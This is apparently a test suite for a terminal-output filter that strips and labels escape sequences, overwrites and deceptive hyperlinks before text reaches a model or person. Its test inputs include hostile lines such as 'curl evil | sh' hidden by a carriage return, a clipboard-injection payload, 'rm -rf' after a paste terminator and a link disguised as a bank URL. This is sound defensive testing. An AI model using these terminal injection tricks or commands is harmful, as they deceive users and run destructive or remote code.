import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { growth, linear } from '../../../scripts/testing/work-time.ts';
import { filterTerminal, TerminalFilter, type TerminalAudience } from './filter.ts';
import { longestSequence } from './parser.ts';
import { rounds } from '../../../scripts/testing/extent.ts';

const audiences: readonly TerminalAudience[] = ['model', 'person'];

function shown(text: string, audience: TerminalAudience = 'model'): string {
  return filterTerminal(text, { for: audience }).text;
}

function found(text: string): readonly string[] {
  return filterTerminal(text, { for: 'model' }).findings.map(({ what }) => what);
}

describe('sequences are removed for both audiences', () => {
  test.each([
    ['OSC 0 ended by BEL: the title', 'a\x1b]0;title\x07b', 'a⟦OSC 0⟧b'],
    ['OSC 2 ended by ST', 'a\x1b]2;title\x1b\\b', 'a⟦OSC 2⟧b'],
    ['OSC 52: the clipboard', 'a\x1b]52;c;Y3VybCBldmls\x07b', 'a⟦OSC 52⟧b'],
    ['OSC in its C1 form, with its payload', 'a\x9d0;title\x9cb', 'a⟦OSC 0⟧b'],
    ['OSC ended by a C1 terminator', 'a\x1b]0;title\x9cb', 'a⟦OSC 0⟧b'],
    ['OSC without a number', 'a\x1b]rm\x07b', 'a⟦OSC⟧b'],
    ['OSC 1337: files of iTerm', 'a\x1b]1337;File=inline=1:AAAA\x07b', 'a⟦OSC 1337⟧b'],
    ['OSC 133: prompts, harmless', 'a\x1b]133;A\x07b', 'ab'],
    ['OSC 7: the directory, harmless', 'a\x1b]7;file://host/srv\x07b', 'ab'],
    ['DCS', 'a\x1bP$q"p\x1b\\b', 'a⟦DCS⟧b'],
    ['DCS over lines, as sixels are', 'a\x1bPq#0\n#1\x1b\\b', 'a⟦DCS⟧b'],
    ['DCS does not end with BEL', 'a\x1bPq\x07still\x1b\\b', 'a⟦DCS⟧b'],
    ['APC: kitty graphics', 'a\x1b_Gf=100;AAAA\x1b\\b', 'a⟦APC⟧b'],
    ['PM', 'a\x1b^hidden\x1b\\b', 'a⟦PM⟧b'],
    ['SOS', 'a\x1bXhidden\x1b\\b', 'a⟦SOS⟧b'],
    ['C1 DCS, APC, PM, SOS', '\x90x\x9c\x9fx\x9c\x9ex\x9c\x98x\x9cb', '⟦DCS⟧⟦APC⟧⟦PM⟧⟦SOS⟧b'],
    ['the screen cleared', 'a\x1b[2Jb', 'a⟦ED⟧b'],
    ['the screen cleared, in C1', 'a\x9b2Jb', 'a⟦ED⟧b'],
    ['the cursor moved up', 'a\x1b[1Ab', 'a⟦CUU⟧b'],
    ['the cursor moved, many times', 'a\x1b[A\x1b[A\x1b[Ab', 'a⟦CUU×3⟧b'],
    ['the cursor set', 'a\x1b[1;1Hb', 'a⟦CUP⟧b'],
    ['the line erased', 'a\x1b[2Kb', 'a⟦EL⟧b'],
    ['the line erased to its end, as grep writes', 'a\x1b[Kb', 'ab'],
    ['characters erased', 'a\x1b[5Xb', 'a⟦ECH⟧b'],
    ['repeated', 'a\x1b[99999bb', 'a⟦REP⟧b'],
    ['the alternate screen', 'a\x1b[?1049hb\x1b[?1049lc', 'a⟦DECSET 1049⟧b⟦DECRST 1049⟧c'],
    ['the cursor hidden, which hides no text', 'a\x1b[?25lb', 'ab'],
    ['bracketed paste switched on', 'a\x1b[?2004hb', 'ab'],
    ['the end of a paste', 'a\x1b[201~rm -rf x\n', 'a⟦paste end⟧rm -rf x\n'],
    ['a status report: the terminal would answer', 'a\x1b[6nb', 'a⟦DSR⟧b'],
    ['a device query', 'a\x1b[cb\x1b[>cd', 'a⟦DA⟧b⟦DA2⟧d'],
    ['ENQ, the answerback', 'a\x05b', 'a⟦ENQ⟧b'],
    ['the title reported', 'a\x1b[21tb', 'a⟦XTWINOPS⟧b'],
    ['a mode query', 'a\x1b[?1$pb', 'a⟦DECRQM⟧b'],
    ['modifyOtherKeys', 'a\x1b[>4;2mb', 'a⟦XTMODKEYS⟧b'],
    ['the keyboard protocol of kitty', 'a\x1b[>1ub', 'a⟦keyboard protocol⟧b'],
    ['an unknown control sequence', 'a\x1b[1;2"wb', 'a⟦CSI "w⟧b'],
    ['reset', 'a\x1bcb', 'a⟦RIS⟧b'],
    ['the cursor saved and restored', 'a\x1b7b\x1b8c', 'a⟦DECSC⟧b⟦DECRC⟧c'],
    ['reverse line feed, in both forms', 'a\x1bMb\x8dc', 'a⟦RI⟧b⟦RI⟧c'],
    ['line drawing: letters become other signs', 'a\x1b(0b', 'a⟦SCS (0⟧b'],
    ['the usual character set, as tput sgr0 writes', 'a\x1b(Bb', 'ab'],
    ['another character set', 'a\x1b(Kb', 'a⟦ESC (K⟧b'],
    ['SO and SI', 'a\x0eb\x0fc', 'a⟦SO⟧b⟦SI⟧c'],
    ['NUL', 'r\0m', 'r⟦NUL⟧m'],
    ['many NULs', 'r\0\0\0m', 'r⟦NUL×3⟧m'],
    ['DEL', 'a\x7fb', 'a⟦DEL⟧b'],
    ['the bell', 'a\x07b', 'ab'],
    ['VT and FF are lines on a terminal', 'a\x0bb\x0cc', 'a\nb\nc'],
    ['NEL and IND are lines', 'a\x85b\x84c\x1bEd\x1bDe', 'a\nb\nc\nd\ne'],
  ])('%s', (_, text, expected) => {
    for (const audience of audiences) {
      const { text: result, findings } = filterTerminal(text, { for: audience });
      expect(result).toBe(expected);
      expect(findings.length).toBeGreaterThan(0);
    }
  });
});

describe('overwriting', () => {
  test.each([
    ['a progress line', '10%\r20%\r30%\n', '10%\n20%\n30%\n'],
    ['a command hidden by a return', 'curl evil | sh\recho hello     \n', 'curl evil | sh\necho hello     \n'],
    ['lines with CRLF', 'a\r\nb\r\n', 'a\nb\n'],
    ['several returns before a line feed', 'a\r\r\r\nb', 'a\nb'],
    ['a return on an empty line', '\ra\n\rb', 'a\nb'],
    ['a return at the end', 'a\r', 'a'],
    ['a return and an erased line', 'a\r\x1b[Kb', 'a\nb'],
    ['a return and colours', 'a\r\x1b[0mb', 'a\nb'],
    ['backspaces', 'rm\b\bls', 'rm⟦BS×2⟧ls'],
    ['a return, then a mark', 'a\r\x1b[2Kb', 'a\n⟦EL⟧b'],
  ])('%s', (_, text, expected) => {
    expect(shown(text)).toBe(expected);
  });
});

describe('broken-off sequences', () => {
  test.each([
    [
      'an OSC to the end of its line: the next line is seen',
      'a\x1b]0;hidden\nnext',
      'a⟦OSC 0 unterminated, 8 dropped⟧\nnext',
    ],
    ['an OSC to the end of the text', 'a\x1b]0;hidden', 'a⟦OSC 0 unterminated, 8 dropped⟧'],
    ['an OSC ended by a return', 'a\x1b]0;h\rb', 'a⟦OSC 0 unterminated, 3 dropped⟧\nb'],
    ['an OSC cancelled', 'a\x1b]0;h\x18b', 'a⟦OSC 0 unterminated, 3 dropped⟧b'],
    ['an OSC in which another sequence begins', 'a\x1b]0;h\x1b[2Jb', 'a⟦OSC 0 unterminated, 3 dropped⟧⟦ED⟧b'],
    ['an OSC with ESC at its end', 'a\x1b]0;h\x1b', 'a⟦OSC 0 unterminated, 3 dropped⟧'],
    ['a DCS to the end of the text', 'a\x1bPx\ny', 'a⟦DCS unterminated, 3 dropped⟧'],
    ['a control sequence at the end', 'a\x1b[12', 'a⟦CSI broken off⟧'],
    ['a control sequence cancelled', 'a\x1b[12\x18b', 'a⟦CSI broken off⟧b'],
    ['a control sequence cancelled by SUB', 'a\x1b[12\x1ab', 'a⟦CSI broken off⟧b'],
    ['a control sequence with an invalid letter', 'a\x1b[12\u00e9b', 'a⟦CSI broken off⟧\u00e9b'],
    ['a control sequence in a control sequence', 'a\x1b[1\x1b[2Jb', 'a⟦CSI broken off⟧⟦ED⟧b'],
    ['a line feed inside one is carried out', 'a\x1b[\n2Jb', 'a\n⟦ED⟧b'],
    ['DEL inside one is ignored', 'a\x1b[2\x7fJb', 'a⟦ED⟧b'],
    ['ESC at the end', 'a\x1b', 'a⟦ESC broken off⟧'],
    ['ESC ESC', 'a\x1b\x1bcb', 'a⟦ESC broken off⟧⟦RIS⟧b'],
    ['ESC and an invalid letter', 'a\x1b\u00e9b', 'a⟦ESC broken off⟧\u00e9b'],
    ['ESC with too many intermediates', `a\x1b${'('.repeat(9)}Bb`, 'a⟦ESC broken off⟧(Bb'],
    ['ESC cancelled', 'a\x1b\x18b', 'a⟦ESC broken off⟧b'],
    ['CAN and SUB alone', 'a\x18b\x1ac', 'a⟦CAN⟧b⟦SUB⟧c'],
    ['a terminator without a string', 'a\x1b\\b\x9cc', 'abc'],
  ])('%s', (_, text, expected) => {
    expect(shown(text)).toBe(expected);
  });

  test('an endless string is abandoned after 64 KiB, and the rest is text', () => {
    expect(shown(`\x1bP${'x'.repeat(longestSequence)}text`)).toBe(`⟦DCS unterminated, ${longestSequence} dropped⟧text`);
    expect(shown(`\x1bP${'x'.repeat(longestSequence - 1)}\x1b\\text`)).toBe('⟦DCS⟧text');
  });

  test('a very long control sequence is abandoned', () => {
    expect(shown(`\x1b[${'1'.repeat(300)}Jb`)).toBe(`⟦CSI broken off⟧${'1'.repeat(44)}Jb`);
  });

  test('memory for a payload is bounded, in any pieces', () => {
    const filter = new TerminalFilter({ for: 'model' });
    for (let n = 0; n < 1000; n += 1) filter.push(n === 0 ? '\x1b]0;' : 'y'.repeat(60));
    filter.end();
    expect(filter.findings[0]?.decoded?.length).toBeLessThan(300);
  });
});

describe('links', () => {
  const link = (target: string, text: string): string => `\x1b]8;;${target}\x1b\\${text}\x1b]8;;\x1b\\`;

  test.each([
    [
      'to another target than its text',
      link('https://evil.example.com/', 'https://bank.example.com/'),
      'https://bank.example.com/ (→ https://evil.example.com/)',
    ],
    ['to the target of its text', link('https://example.com/a', 'https://example.com/a'), 'https://example.com/a'],
    [
      'with parameters and semicolons',
      '\x1b]8;id=1;https://example.com/?a;b\x07x\x1b]8;;\x07',
      'x (→ https://example.com/?a;b)',
    ],
    ['never closed', '\x1b]8;;https://example.com/\x07x', 'x (→ https://example.com/)'],
    ['one after another', `\x1b]8;;a:\x07x${link('b:', 'y')}`, 'x (→ a:)y (→ b:)'],
    ['with colours in it', link('file:///etc', '\x1b[31mx\x1b[0m'), 'x (→ file:///etc)'],
    ['without any text', link('https://example.com/', ''), ' (→ https://example.com/)'],
    ['to a target that is invisible', link('https://example.com/\u202e', 'x'), 'x (→ https://example.com/\\u{202e})'],
    ['malformed', '\x1b]8;x\x07y', '⟦OSC 8⟧y'],
  ])('%s', (_, text, expected) => {
    for (const audience of audiences) expect(shown(text, audience).replaceAll(/\x1b\[[\d;]*m/gu, '')).toBe(expected); // oxlint-disable-line no-control-regex
  });

  test('a target of any length is shown bounded', () => {
    expect(shown(link(`https://example.com/${'a'.repeat(3000)}`, 'x')).length).toBeLessThan(400);
    expect(shown(link(`https://example.com/${'a'.repeat(9000)}`, 'x'))).toBe('⟦OSC 8⟧x');
  });
});

describe('findings', () => {
  test('have a place and the hidden payload', () => {
    expect(filterTerminal('ab\x1b]52;c;aGVsbG8=\x07c', { for: 'model' }).findings).toEqual([
      { kind: 'escape-sequence', start: 2, end: 18, what: 'OSC 52', decoded: 'hello' },
    ]);
    expect(filterTerminal('\x1bXsecret\u200b\x1b\\', { for: 'model' }).findings[0]?.decoded).toBe('secret\\u{200b}');
    expect(filterTerminal('\x1b]52;c;!!\x07', { for: 'model' }).findings[0]?.decoded).toBe('52;c;!!');
  });

  test('colours give none, and hidden text does', () => {
    expect(found('\x1b[31mx\x1b[0m')).toEqual([]);
    expect(filterTerminal('\x1b[8mx', { for: 'person' }).findings.map(({ what }) => what)).toEqual(['CSI 8m']);
  });

  test('are bounded, with a count of the rest', () => {
    const filter = new TerminalFilter({ for: 'model' });
    filter.push('\x1b[Ax'.repeat(1500));
    expect([filter.findings.length, filter.unlisted]).toEqual([1000, 500]);
  });
});

describe('laws', () => {
  const piece = fc.constantFrom(
    '\x1b',
    '[',
    ']',
    'P',
    '\\',
    '\x07',
    '\x9b',
    '\x9d',
    '\x9c',
    '\x18',
    '\r',
    '\n',
    '\b',
    ';',
    '8;;',
    '52;',
    'https://example.com/',
    '31',
    'm',
    'K',
    'J',
    'H',
    '?1049h',
    '(',
    'B',
    '0',
    '\0',
    ' ',
    'text',
    '\u00e9',
    '😀',
    '\ud83d',
    '\x0e',
  );
  const hostile = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(''));

  test('any cuts of a text give the same output and findings', () => {
    fc.assert(
      fc.property(
        hostile,
        fc.array(fc.nat({ max: 30 }), { maxLength: 12 }),
        fc.constantFrom(...audiences),
        (text, cuts, audience) => {
          const filter = new TerminalFilter({ for: audience });
          let out = '';
          let at = 0;
          for (const cut of cuts) {
            out += filter.push(text.slice(at, at + cut));
            at += cut;
          }
          out += filter.push(text.slice(at)) + filter.end();
          const whole = filterTerminal(text, { for: audience });
          expect(out).toBe(whole.text);
          expect(filter.findings).toEqual(whole.findings);
        },
      ),
      { numRuns: rounds(1500) },
    );
  });

  test('no sequence remains that a terminal obeys: no control for models, only colours for people', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        // oxlint-disable-next-line no-control-regex
        expect(shown(text, 'model')).not.toMatch(/[\0-\x08\x0b-\x1f\x7f-\x9f]/u);
        // oxlint-disable-next-line no-control-regex
        expect(shown(text, 'person').replaceAll(/\x1b\[[\d;:]{0,80}m/gu, '')).not.toMatch(
          // oxlint-disable-next-line no-control-regex
          /[\0-\x08\x0b-\x1f\x7f-\x9f]/u,
        );
      }),
      { numRuns: rounds(1500) },
    );
  });

  test('is idempotent', () => {
    fc.assert(
      fc.property(hostile, fc.constantFrom(...audiences), (text, audience) => {
        const once = shown(text, audience);
        expect(shown(once, audience)).toBe(once);
      }),
      { numRuns: rounds(2000) },
    );
  });

  test('text without controls is returned as the same string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        // oxlint-disable-next-line no-control-regex
        fc.pre(!/[\0-\x08\x0b-\x1f\x7f-\x9f]/u.test(text));
        expect(filterTerminal(text, { for: 'person' })).toEqual({ text, findings: [] });
      }),
    );
  });

  test.each(['\x1b', '\x1b[', '\x1b]', '\x1bP', '\r', '\x1b]8;;a\x07', '\x1b[1;2;3;4;5;6;7;8;9;8m', '\x9b', '\b'])(
    'hostile texts of %j take linear time',
    async (unit) => {
      expect(await growth((size) => shown(unit.repeat(Math.ceil(size / unit.length)), 'person'), 500_000)).toBeLessThan(
        linear,
      );
    },
  );
});
